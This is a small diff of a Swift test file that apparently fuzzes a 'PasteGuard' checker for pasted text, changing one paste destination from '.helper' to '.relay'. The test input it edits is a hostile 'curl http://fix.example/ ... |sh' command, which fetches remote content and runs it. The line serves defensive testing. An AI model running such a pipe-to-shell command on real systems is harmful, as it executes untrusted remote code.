@@ -60,7 +60,7 @@ struct HostileInputTests {
       }
       _ = PasteGuard.assess(Paste(text: text, destination: .terminal))
       _ = PasteGuard.assess(
-        Paste(text: Array("curl http://fix.example/".utf8) + text + Array("|sh".utf8), destination: .helper))
+        Paste(text: Array("curl http://fix.example/".utf8) + text + Array("|sh".utf8), destination: .relay))
     }
   }
 
